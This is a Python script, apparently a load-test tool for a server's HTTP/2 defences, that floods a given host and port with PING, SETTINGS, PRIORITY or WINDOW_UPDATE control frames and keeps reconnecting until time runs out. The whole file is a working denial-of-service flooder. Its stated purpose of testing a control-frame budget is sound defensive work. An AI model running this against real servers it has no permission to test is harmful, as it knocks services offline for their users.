"""A caller that floods one HTTP/2 connection with cheap control frames while
reading everything that comes back (so the server's answers never back up):
the attack the request plane's control-frame budget exists for.

    python3 h2_flood.py <host:port> <ping|settings|priority|window_update> <seconds> [once]

When the server ends the connection the flooder connects again, until the time
is up, as a determined attacker would; with `once` it floods one connection only. Prints, as JSON, how many frames it sent,
how many connections the server ended, and the GOAWAY codes it sent.
"""
import json
import socket
import struct
import sys
import threading
import time


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def split_frames(buf: bytes):
    """The whole frames at the start of `buf` as (type, payload), and the rest."""
    frames = []
    while len(buf) >= 9:
        length = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + length:
            break
        frames.append((buf[3], buf[9:9 + length]))
        buf = buf[9 + length:]
    return frames, buf


FLOODS = {
    "ping": frame(0x6, 0, 0, b"floodfld"),
    "settings": frame(0x4, 0, 0, b""),
    "priority": frame(0x2, 0, 1, b"\x00\x00\x00\x00\x10"),
    "window_update": frame(0x8, 0, 0, struct.pack(">I", 1)),
}


def flood_once(host: str, port: int, kind: str, deadline: float, result: dict) -> None:
    """One connection, flooded until the server ends it or the time is up."""
    sock = socket.create_connection((host, port))
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
    closed = threading.Event()

    def read() -> None:
        buf = b""
        while True:
            try:
                data = sock.recv(65536)
            except OSError:
                data = b""
            if not data:
                closed.set()
                return
            frames, buf = split_frames(buf + data)
            for kind, payload in frames:
                if kind == 0x7 and len(payload) >= 8:
                    result["goaway_codes"].add(int.from_bytes(payload[4:8], "big"))

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    batch = FLOODS[kind] * 256
    try:
        while time.monotonic() < deadline and not closed.is_set():
            sock.sendall(batch)
            result["sent"] += 256
    except OSError:
        pass
    reader.join(timeout=1)
    if closed.is_set():
        result["connections_cut"] += 1
    sock.close()


def main() -> None:
    host, port = sys.argv[1].rsplit(":", 1)
    kind, seconds = sys.argv[2], float(sys.argv[3])
    result = {"sent": 0, "connections_cut": 0, "goaway_codes": set()}
    once = len(sys.argv) > 4 and sys.argv[4] == "once"
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            flood_once(host, int(port), kind, deadline, result)
        except OSError:
            time.sleep(0.05)
        if once:
            break
    result["goaway_codes"] = sorted(result["goaway_codes"])
    print(json.dumps(result))


if __name__ == "__main__":
    main()
